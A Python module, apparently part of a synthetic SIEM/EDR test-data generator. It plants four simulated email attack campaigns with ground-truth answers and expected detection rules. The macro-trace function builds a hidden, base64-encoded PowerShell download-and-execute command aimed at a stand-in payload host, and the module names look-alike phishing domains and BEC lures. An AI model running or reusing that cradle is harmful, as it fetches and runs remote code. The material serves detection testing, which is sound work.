"""The planted campaigns of the scale set, spread over the period on weekdays: a credential
phish on a look-alike of the own domain (clicked; one clicker downloads and runs a file), a
macro attachment held and released by three users (opened on their hosts, run on one), a BEC
wave impersonating the CEO to finance, and a compromised partner sharing a link judged clean
first and malicious later. Each draws from its own stream; its mail events are made with the
day's mail, its endpoint traces in the day's EDR phase."""

from __future__ import annotations

import base64
import json
from datetime import datetime, timezone

from ..scenario.common import b64id, file_hashes, hexs, iso_utc
from ..scenario.content import TLS
from ..scenario.hosts import PROTECT_HOST, edr_hashes
from ..scenario.mail import Msg, msgid_external
from ..writers.siem_v2 import V2
from ..writers.ttp import ttp_ip_record, ttp_url_record
from .common import INBOUND_HOST, INBOUND_IP, INBOUND_ROUTE, ORG, PROTECT_IP, iso_ms, rng
from .mail_day import MailDay
from .world import World

# attack infrastructure: documentation ranges, never used by the background (198.18.0.0/15)
C_PHISH = {"sender": "it-servicedesk@acme-c0rp.example", "display_name": "ACME IT Service Desk",
           "ip": "198.51.100.23", "subject": "Action required: your mailbox is almost full",
           "host": "portal.acme-corp-sso.com", "registrable_domain": "acme-corp-sso.com",
           "path": "/owa/auth.php", "host_ip": "203.0.113.45"}
C_MACRO = {"sender": "accounts@nordvik-invoicing.example", "display_name": "Nordvik Invoicing",
           "ip": "203.0.113.61", "subject": "Overdue invoice INV-40917", "file": "INV-40917.xlsm",
           "mime": "application/vnd.ms-excel.sheet.macroEnabled.12", "size": 51_234,
           "payload_host": "files.nordvik-invoicing.example", "payload_ip": "203.0.113.62"}
C_BEC = {"sender": "dana.whitfield.ceo@quickpost-mail.example", "display_name": "Dana Whitfield",
         "reply_to": "dana.whitfield.office@fastreply-mail.example", "ip": "203.0.113.162",
         "subject": "Confidential: wire transfer needed today"}
C_PARTNER = {"partner": "pinecrest-logistics.example", "subject": "Shared document: Q3 remittance details",
             "host": "docs.securefile-view.example", "registrable_domain": "securefile-view.example",
             "path": "/view/remittance.html", "host_ip": "192.0.2.211"}
STAGES = ["targeted", "delivery", "interaction", "download", "execution", "command-and-control"]


def plan_campaigns(days: int, start: int) -> dict:
    """The day index of each campaign: spread over the period, never on day 0 (the "new sender
    domain" rules need a day of history), on a weekday, on a day of its own when one is near."""
    first = 1 if days > 1 else 0
    out, used = {}, set()
    for cid, frac in (("credential-phish-lookalike", 0.2), ("malicious-attachment-macro", 0.45),
                      ("bec-ceo-wire", 0.65), ("partner-compromise-retro", 0.85)):
        d = min(days - 1, max(first, round(frac * (days - 1))))
        near = [d] + [d + s * k for k in range(1, 8) for s in (1, -1)]
        ok = [c for c in near if first <= c < days
              and datetime.fromtimestamp(start + c * 86400, timezone.utc).weekday() < 5]
        if ok:
            d = next((c for c in ok if c not in used), ok[0])
        out[cid] = d
        used.add(d)
    return out


def expected(key, severity, recipients, delivered, stages, hosts):
    furthest = max(stages.values(), key=STAGES.index)
    return {"key": key, "severity": severity, "stage": furthest, "recipients": sorted(recipients),
            "delivered": sorted(delivered),
            "interacted": sorted(u for u, s in stages.items() if STAGES.index(s) >= 2),
            "stages": dict(sorted(stages.items())), "hosts": dict(sorted(hosts.items()))}


class Campaigns:
    """The planted attacks of one day: mail events now, endpoint traces in the EDR phase."""

    def __init__(self, W: World, cfg: dict, mail: MailDay, ids: list):
        self.W, self.cfg, self.mail, self.ids = W, cfg, mail, ids
        self.truth = []
        self.traces = []   # callables(edr) run in the EDR phase

    def at(self, hh, mm, ss, ms=0):
        return self.mail.day_ms + ((hh * 60 + mm) * 60 + ss) * 1000 + ms

    def run_mail(self):
        for cid in self.ids:
            getattr(self, cid.replace("-", "_"))()

    def sample_users(self, r, pool, n, exclude=()):
        pool = [i for i in pool if self.W.users[i].email not in exclude]
        return sorted(self.W.users[i].email for i in r.sample(pool, min(n, len(pool))))

    # ---- 1. credential phishing on a look-alike domain --------------------------------------------
    def credential_phish_lookalike(self):
        W, mail, c = self.W, self.mail, C_PHISH
        r = rng(self.cfg["seed"], self.cfg["mailboxes"], "campaign", "credential-phish-lookalike")
        n = max(12, min(60, round(len(W.users) * 0.01)))
        rcpts = self.sample_users(r, range(len(W.users)), n, exclude={W.ceo.email})
        order = list(rcpts)
        r.shuffle(order)
        t0 = self.at(8, 4, 10, 233)
        msgs, per = {}, []
        for k, rc in enumerate(order):
            t = t0 + k * r.randrange(15_000, 40_000)
            url = f"https://{c['host']}{c['path']}?session={b64id(r, 12)}"
            m = Msg(r, "attack-credential-phish", t, c["sender"], c["sender"], c["ip"], c["subject"], "Inbound", [rc],
                      msgid=f"<{hexs(r, 10)}.{k + 1}@mailer.acme-c0rp.example>", urls=[url],
                      agg_mode=r.choice(["with_suffix", "mixed"]))
            m.tls, m.spam_score, m.case_lower = TLS[0], r.randrange(2, 9), False
            v2 = V2(r)
            v2.receipt_acc(m, rc, t)
            v2.process(m, t + 1250, "Acc")
            v2.delivery(m, rc, t + 4800, INBOUND_ROUTE, INBOUND_HOST, INBOUND_IP, tls_used="Yes")
            for ev in v2.events:
                mail.put_ev(ev)
            mail.ttp_url.append(("rec", t + 2100, ttp_url_record(
                clicker=rc, sender=c["sender"], url=url, subject=c["subject"], action="allow", actions="Allow",
                scan="clean", category="Business", sending_ip=c["ip"], awareness="N/A", ms=t + 2100, route="inbound",
                method="Entry Scan", msgid=m.msgid)))
            msgs[rc] = (m, url, t)
            per.append({"recipient": rc, "message_id": m.msgid.strip("<>"), "url": url, "received_utc": iso_utc(t)})
        nclick = max(4, min(10, n // 5))
        clickers = r.sample(rcpts, nclick)
        plan = []
        for k, rc in enumerate(clickers):
            if k == nclick - 1:
                plan.append((rc, "block", "Block", "malicious", "Phishing & Fraud", "N/A"))
            elif k == nclick - 2:
                plan.append((rc, "warn", "None", "clean", "Business", "Continue"))
            else:
                plan.append((rc, "allow", "Allow", "clean", "Business", "N/A"))
        clicks = []
        tc = self.at(9, 40, 0)
        for k, (rc, action, actions, scan, cat, aware) in enumerate(plan):
            m, url, _t = msgs[rc]
            ts = tc + k * r.randrange(4 * 60_000, 14 * 60_000) + r.randrange(1000)
            tagmap = None
            if action == "block":
                tagmap = {"UrlReputationScan": {"Status": ["CustomerAll", "VerdictBlock"], "Type": ["Phishing"],
                                                "UrlBlock": [f"ORIGINAL:{url} (Blocked as PHISHING)"], "Url": [url]}}
                v2 = V2(r)
                v2.url_protect(m, rc, ts + 180, url, "Phishing & Fraud", json.dumps(
                    {"CredentialTheftEvidence": ["Microsoft OWA login form", "Password field on look-alike domain"],
                     "CredentialTheftTags": ["brand:Microsoft", "lookalike:acme-corp"]}, separators=(",", ":")))
                for ev in v2.events:
                    mail.put_ev(ev)
            mail.ttp_url.append(("rec", ts, ttp_url_record(
                clicker=rc, sender=c["sender"], url=url, subject=c["subject"], action=action, actions=actions, scan=scan,
                category=cat, sending_ip=c["ip"], awareness=aware, ms=ts, route="inbound", method="User Click",
                msgid=m.msgid, tagmap=tagmap)))
            clicks.append({"user": rc, "time": iso_ms(ts), "ms": ts, "action": action, "scanResult": scan,
                           "userAwarenessAction": aware, "message_id": m.msgid.strip("<>"), "url": url})
        truth = {"id": "credential-phish-lookalike", "kind": "credential-phish-url",
                 "sender": {"address": c["sender"], "domain": c["sender"].split("@")[1],
                            "display_name": c["display_name"], "ip": c["ip"], "lookalike_of": ORG},
                 "subject": c["subject"], "first_event_utc": iso_utc(t0),
                 "message_ids": sorted(p["message_id"] for p in per), "recipients": rcpts,
                 "delivered_recipients": rcpts, "held_recipients": [],
                 "url": {"host": c["host"], "registrable_domain": c["registrable_domain"],
                         "pattern": f"https://{c['host']}{c['path']}?session=<per-recipient token>"},
                 "entry_scans": len(rcpts), "clickers": [{k: v for k, v in x.items() if k != "ms"} for x in clicks],
                 "expected_rules": ["MS-DOM-001", "MS-DOM-002", "MS-MSG-010", "MS-URL-002", "MS-URL-010", "MS-URL-011",
                                    "MS-URL-070", "MS-URL-080", "MS-COR-004", "MS-COR-005", "MS-COR-008"]}
        self.truth.append(truth)

        self.traces.append(lambda E: self.phish_traces(E, r, clicks, rcpts, truth))

    def phish_traces(self, E, r, clicks, rcpts, truth):
        """The endpoint side: each clicker's browser reaches URL Protect; unless the click
        was blocked, DNS and a connection to the phishing host; the first allowed click also
        downloads update.exe and runs it."""
        W, c = self.W, C_PHISH
        hosts = []
        download_done = False
        for x in clicks:
            u = W.by_email[x["user"]]
            t = x["ms"] + 1000 + r.randrange(200, 700)
            ev = []
            E.t_dns(u, t + 300, PROTECT_HOST, PROTECT_IP, tag=None)
            if x["action"] == "block":
                hosts.append({"user": u.email, "host": u.host, "stage": "interaction", "click_action": "block",
                              "evidence": [], "note": "Mimecast blocked the click: the browser reached only the "
                              "URL Protect block page, nothing on the host may match"})
                continue
            ev.append(E.t_dns(u, t + 1400, c["host"], c["host_ip"], tag="DNS query for the phishing host"))
            ev.append(E.t_conn(u, t + 1600, "msedge.exe", "https://" + c["host"], c["host_ip"], "443",
                               tag="browser connects to the phishing host"))
            stage = "interaction"
            if not download_done and x["action"] == "allow":
                download_done = True
                origin = f"https://{c['host']}/owa/update.exe"
                path = f"C:\\Users\\{u.sam}\\Downloads\\update.exe"
                sha1, sha256, md5, size = W.image_hashes["update.exe"]
                ev.append(E.t_file(u, t + 127_500, "FileCreated", path, (sha1, sha256, md5, size), "msedge.exe",
                                   origin=(origin, c["host_ip"]), tag="browser download from the phishing host"))
                ev.append(E.t_proc(u, t + 154_200, "update.exe", "explorer.exe",
                                   tag="the downloaded update.exe is started"))
                stage = "execution"
            hosts.append({"user": u.email, "host": u.host, "stage": stage, "click_action": x["action"], "evidence": ev})
        truth["hosts"] = hosts
        stages = {u: "delivery" for u in rcpts}
        for h in hosts:
            stages[h["user"]] = h["stage"]
        truth["expected_incident"] = expected(
            "domain:" + c["registrable_domain"], "critical", rcpts, rcpts, stages,
            {h["host"].lower(): h["stage"] for h in hosts if h["evidence"]})

    # ---- 2. malicious macro attachment, held, released by three users -----------------------------
    def malicious_attachment_macro(self):
        W, mail, c = self.W, self.mail, C_MACRO
        r = rng(self.cfg["seed"], self.cfg["mailboxes"], "campaign", "malicious-attachment-macro")
        n = max(10, min(40, round(len(W.users) * 0.005)))
        nf = min(len(W.finance), n // 2)
        fin = self.sample_users(r, W.finance, nf)
        rcpts = sorted(fin + self.sample_users(r, W.non_exec, n - nf, exclude=set(fin)))
        released = sorted(r.sample(rcpts, 3))
        held = [x for x in rcpts if x not in released]
        att = {"name": c["file"], "ext": "xlsm", "mime": c["mime"], "size": c["size"]}
        att.update(file_hashes("scale/attack/" + c["file"]))
        t0 = self.at(13, 5, 22, 418)
        m = Msg(r, "attack-malicious-attachment", t0, c["sender"], c["sender"], c["ip"], c["subject"], "Inbound", rcpts,
                  msgid=f"<{hexs(r, 12)}$b72e{r.randrange(1000, 9999)}@mail.nordvik-invoicing.example>", atts=[att],
                  agg_mode="mixed")
        m.tls, m.spam_score, m.spam_level = TLS[1], 4, "28"
        v2 = V2(r)
        for k, rc in enumerate(rcpts):
            v2.receipt_acc(m, rc, t0 + k * 37)
        v2.process(m, t0 + 3120, "Sdbx")
        scan = t0 + 91_544
        for k, rc in enumerate(rcpts):
            v2.attachment_protect(m, scan + k * 11, att, rcpt=rc, full=(k % 2 == 0))
            mail.ttp_ap.append((scan + k * 11, rc, c["sender"], att["name"], att["mime"], att["sha256"], m.msgid,
                                c["subject"], "malicious", "user release, none" if rc in released else "hold",
                                "MALICIOUS_ACTIVITY: Office macro launches powershell.exe and downloads a remote payload"
                                "\r\nTime taken: 0 hrs, 1 min, 28 sec"))
        v2.process(m, t0 + 95_310, "Hld", hold_reason="Oth")
        releases = []
        for k, rc in enumerate(released):
            rel = self.at(14, 6 + 17 * k, r.randrange(60), r.randrange(1000))
            v2.delivery(m, rc, rel + 2417, INBOUND_ROUTE, INBOUND_HOST, INBOUND_IP, latency=rel + 2417 - t0, tls_used="Yes")
            releases.append({"user": rc, "released_at": iso_utc(rel), "delivered_ms": rel + 2417,
                             "delivered_at": iso_ms(rel + 2417)})
        for ev in v2.events:
            mail.put_ev(ev)
        truth = {"id": "malicious-attachment-macro", "kind": "malicious-attachment",
                 "sender": {"address": c["sender"], "domain": c["sender"].split("@")[1],
                            "display_name": c["display_name"], "ip": c["ip"]},
                 "sender_domain_first_seen": True, "subject": c["subject"], "first_event_utc": iso_utc(t0),
                 "message_ids": [m.msgid.strip("<>")], "recipients": rcpts, "delivered_recipients": released,
                 "held_recipients": held, "releases": [{k: v for k, v in x.items() if k != "delivered_ms"} for x in releases],
                 "attachment": {"name": att["name"], "sha256": att["sha256"], "sha1": att["sha1"], "md5": att["md5"],
                                "size": att["size"], "verdict": "malicious"},
                 "payload_host": c["payload_host"],
                 "expected_rules": ["MS-ATT-001", "MS-ATT-002", "MS-ATT-010", "MS-ATT-020", "MS-ATT-030", "MS-MSG-010",
                                    "MS-MSG-040", "MS-COR-001", "MS-COR-002", "MS-COR-003", "MS-COR-006", "MS-COR-007"]}
        self.truth.append(truth)

        self.traces.append(lambda E: self.macro_traces(E, r, att, releases, rcpts, released, held, truth))

    def macro_traces(self, E, r, att, releases, rcpts, released, held, truth):
        """The endpoint side of the three releases: written to the Outlook cache and opened
        (one runs the macro's PowerShell, which calls the payload host), or Mimecast's
        rewritten copy opened (name only)."""
        W, c = self.W, C_MACRO
        hosts = []
        hashes = (att["sha1"], att["sha256"], att["md5"], str(att["size"]))
        for k, rel in enumerate(releases):
            u = W.by_email[rel["user"]]
            t = rel["delivered_ms"] + (100_000, 192_000, 361_000)[k] + r.randrange(1000)
            cache = f"C:\\Users\\{u.sam}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{b64id(r, 6).upper()[:8]}"
            ev = []
            if k < 2:   # 0: opened and ran code; 1: opened (same hash)
                path = f"{cache}\\{att['name']}"
                ev.append(E.t_file(u, t, "FileCreated", path, hashes, "OUTLOOK.EXE",
                                   tag="attachment written to the Outlook cache"))
                ev.append(E.t_proc(u, t + 4200, "EXCEL.EXE", "OUTLOOK.EXE", doc=path, tag="EXCEL.EXE opens the attachment"))
                stage, match = "interaction", "hash"
                if k == 0:
                    script = "IEX (New-Object Net.WebClient).DownloadString('https://" + c["payload_host"] + "/q/inv.ps1')"
                    enc = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
                    cmd = f"powershell.exe -NoP -NonI -W Hidden -enc {enc}"
                    excel = E.init_frag(u, "EXCEL.EXE", parent="OUTLOOK.EXE", doc=path)
                    ev.append(E.t_proc(u, t + 11_700, "powershell.exe", excel, cmd=cmd,
                                       tag="EXCEL.EXE spawns powershell.exe with an encoded command"))
                    ps = E.init_frag(u, "powershell.exe", parent="EXCEL.EXE", cmd=cmd)
                    ev.append(E.t_dns(u, t + 12_900, c["payload_host"], c["payload_ip"],
                                      tag="powershell resolves the payload host"))
                    ev.append(E.t_conn(u, t + 13_100, ps, c["payload_host"], c["payload_ip"], "443",
                                       tag="powershell connects to the payload host"))
                    stage = "execution"
            else:       # 2: Mimecast's rewritten copy, other hash, Windows' "(1)" name
                rname = att["name"].replace(".xlsm", " (1).xlsm")
                rh = edr_hashes("scale/mimecast-rewritten/" + att["name"])
                path = f"{cache}\\{rname}"
                ev.append(E.t_file(u, t, "FileCreated", path, (rh["sha1"], rh["sha256"], rh["md5"], str(att["size"] - 6127)),
                                   "OUTLOOK.EXE", tag="rewritten attachment written to the Outlook cache (other hash)"))
                ev.append(E.t_proc(u, t + 5100, "EXCEL.EXE", "OUTLOOK.EXE", doc=path,
                                   tag="EXCEL.EXE opens the rewritten copy"))
                stage, match = "interaction", "name"
            hosts.append({"user": u.email, "host": u.host, "stage": stage, "match": match,
                          "delivered_at": rel["delivered_at"], "evidence": ev})
        truth["hosts"] = hosts
        stages = {x: "targeted" for x in held}
        stages.update({x: "interaction" for x in released})
        for h in hosts:
            stages[h["user"]] = h["stage"]
        truth["expected_incident"] = expected("hash:" + att["sha256"], "critical", rcpts, released, stages,
                                              {h["host"].lower(): h["stage"] for h in hosts})

    # ---- 3. BEC wave impersonating the CEO ----------------------------------------------------------
    def bec_ceo_wire(self):
        W, mail, c = self.W, self.mail, C_BEC
        r = rng(self.cfg["seed"], self.cfg["mailboxes"], "campaign", "bec-ceo-wire")
        n = max(3, min(8, len(W.finance) // 10))
        rcpts = self.sample_users(r, W.finance, n)
        t0 = self.at(15, 42, 17, 904)
        ids = []
        for k, rc in enumerate(rcpts):   # one message per person, over about an hour and a half
            t = t0 + k * r.randrange(6 * 60_000, 14 * 60_000)
            m = Msg(r, "attack-bec", t, c["sender"], c["sender"], c["ip"], c["subject"], "Inbound", [rc],
                      msgid=f"<CA+{b64id(r, 30)}@mail.quickpost-mail.example>", agg_mode="with_suffix")
            m.tls, m.spam_score, m.case_lower = TLS[0], 3, False
            v2 = V2(r)
            v2.receipt_acc(m, rc, t)
            v2.impersonation(m, rc, t + 1180, action="None", definition="IP - 2 hits (Tag email)", hits=2,
                             flags={"internalUserName", "replyMismatch"}, tagged_malicious=True, tagged_external=True)
            v2.process(m, t + 2040, "Acc")
            v2.delivery(m, rc, t + 5660, INBOUND_ROUTE, INBOUND_HOST, INBOUND_IP, tls_used="Yes")
            for ev in v2.events:
                mail.put_ev(ev)
            mail.ttp_ip.append(ttp_ip_record(
                r, sender=c["sender"], rcpt=rc, subject=c["subject"], definition="IP - 2 hits (Tag email)", hits=2,
                identifiers=["internal_user_name", "reply_address_mismatch"], action="none", tagged_external=True,
                tagged_malicious=True, ip=c["ip"], ms=t + 1180,
                results=[{"impersonationDomainSource": "internal_user_name",
                          "similarDomain": f"{W.ceo.display} <{W.ceo.email}>", "stringSimilarToDomain": W.ceo.display,
                          "checkerResult": "hit"},
                         {"impersonationDomainSource": "reply_address_mismatch", "stringSimilarToDomain": c["reply_to"],
                          "checkerResult": "hit"}], msgid=m.msgid))
            ids.append(m.msgid.strip("<>"))
        self.truth.append({
            "id": "bec-ceo-wire", "kind": "bec-impersonation",
            "sender": {"address": c["sender"], "domain": c["sender"].split("@")[1], "display_name": c["display_name"],
                       "ip": c["ip"], "reply_to": c["reply_to"]},
            "impersonated": {"address": W.ceo.email, "display_name": W.ceo.display},
            "subject": c["subject"], "first_event_utc": iso_utc(t0), "message_ids": sorted(ids),
            "recipients": rcpts, "delivered_recipients": rcpts, "held_recipients": [], "hosts": [],
            "expected_rules": ["MS-IMP-001", "MS-IMP-020"],
            "expected_incident": expected("message:" + min(ids), "high", rcpts, rcpts, {x: "delivery" for x in rcpts}, {})})

    # ---- 4. a partner's compromised mailbox shares a link judged clean, then malicious ---------------
    def partner_compromise_retro(self):
        W, mail, c = self.W, self.mail, C_PARTNER
        r = rng(self.cfg["seed"], self.cfg["mailboxes"], "campaign", "partner-compromise-retro")
        partner = W.partner_by_domain[c["partner"]]
        sender = partner["people"][0]
        n = max(8, min(30, round(len(W.users) * 0.004)))
        rcpts = self.sample_users(r, range(len(W.users)), n)
        t0 = self.at(10, 12, 3, 77)
        msgs, ids = {}, []
        for k, rc in enumerate(rcpts):
            t = t0 + k * r.randrange(20_000, 90_000)
            url = f"https://{c['host']}{c['path']}?id={b64id(r, 9)}"
            m = Msg(r, "attack-partner-compromise", t, sender, sender, partner["ip"], c["subject"], "Inbound", [rc],
                      msgid=msgid_external(r, partner["domain"]), urls=[url], agg_mode="with_suffix")
            m.case_lower = False
            v2 = V2(r)
            v2.receipt_acc(m, rc, t)
            v2.process(m, t + 1400, "Acc")
            v2.delivery(m, rc, t + 5200, INBOUND_ROUTE, INBOUND_HOST, INBOUND_IP, tls_used="Yes")
            for ev in v2.events:
                mail.put_ev(ev)
            msgs[rc] = (m, url, t)
            ids.append(m.msgid.strip("<>"))
        nclick = max(3, min(8, n // 4))
        clickers = r.sample(rcpts, nclick)
        clicks = []
        for k, rc in enumerate(clickers):
            m, url, t = msgs[rc]
            last = k == nclick - 1
            ts = (self.at(15, 30, 0) + r.randrange(600_000)) if last else t + r.randrange(5 * 60_000, 90 * 60_000)
            tagmap = None
            if last:
                tagmap = {"UrlReputationScan": {"Status": ["CustomerAll", "VerdictBlock"], "Type": ["Phishing"],
                                                "UrlBlock": [f"ORIGINAL:{url} (Blocked as PHISHING)"], "Url": [url]}}
                v2 = V2(r)
                v2.url_protect(m, rc, ts + 150, url, "Phishing & Fraud", json.dumps(
                    {"CredentialTheftEvidence": ["Microsoft 365 login form", "Hosted on a file-sharing look-alike"],
                     "CredentialTheftTags": ["brand:Microsoft"]}, separators=(",", ":")))
                for ev in v2.events:
                    mail.put_ev(ev)
            mail.ttp_url.append(("rec", ts, ttp_url_record(
                clicker=rc, sender=sender, url=url, subject=c["subject"], action="block" if last else "allow",
                actions="Block" if last else "Allow", scan="malicious" if last else "clean",
                category="Phishing & Fraud" if last else "Business", sending_ip=partner["ip"], awareness="N/A", ms=ts,
                route="inbound", method="User Click", msgid=m.msgid, tagmap=tagmap)))
            clicks.append({"user": rc, "time": iso_ms(ts), "ms": ts, "action": "block" if last else "allow",
                           "scanResult": "malicious" if last else "clean", "message_id": m.msgid.strip("<>"), "url": url})
        truth = {"id": "partner-compromise-retro", "kind": "retro-verdict-url",
                 "sender": {"address": sender, "domain": partner["domain"], "ip": partner["ip"],
                            "note": "an established correspondent (mails every day of the period): the account is compromised"},
                 "subject": c["subject"], "first_event_utc": iso_utc(t0), "message_ids": sorted(ids),
                 "recipients": rcpts, "delivered_recipients": rcpts, "held_recipients": [],
                 "url": {"host": c["host"], "registrable_domain": c["registrable_domain"]},
                 "clickers": [{k: v for k, v in x.items() if k != "ms"} for x in clicks],
                 "expected_rules": ["MS-URL-002", "MS-URL-011", "MS-URL-070", "MS-URL-080", "MS-COR-004"]}
        self.truth.append(truth)

        self.traces.append(lambda E: self.partner_traces(E, r, clicks, rcpts, truth))

    def partner_traces(self, E, r, clicks, rcpts, truth):
        """The endpoint side: each clicker's browser reaches URL Protect, and unless the
        click was blocked, the shared-document host."""
        W, c = self.W, C_PARTNER
        hosts = []
        for x in clicks:
            u = W.by_email[x["user"]]
            t = x["ms"] + 1000 + r.randrange(200, 700)
            E.t_dns(u, t + 300, PROTECT_HOST, PROTECT_IP, tag=None)
            if x["action"] == "block":
                hosts.append({"user": u.email, "host": u.host, "stage": "interaction", "click_action": "block",
                              "evidence": []})
                continue
            ev = [E.t_dns(u, t + 1500, c["host"], c["host_ip"], tag="DNS query for the shared-document host"),
                  E.t_conn(u, t + 1700, "msedge.exe", c["host"], c["host_ip"], "443",
                           tag="browser connects to the shared-document host")]
            hosts.append({"user": u.email, "host": u.host, "stage": "interaction", "click_action": "allow", "evidence": ev})
        truth["hosts"] = hosts
        stages = {u: "delivery" for u in rcpts}
        for h in hosts:
            stages[h["user"]] = h["stage"]
        truth["expected_incident"] = expected("domain:" + c["registrable_domain"], "critical", rcpts, rcpts, stages,
                                              {h["host"].lower(): h["stage"] for h in hosts if h["evidence"]})
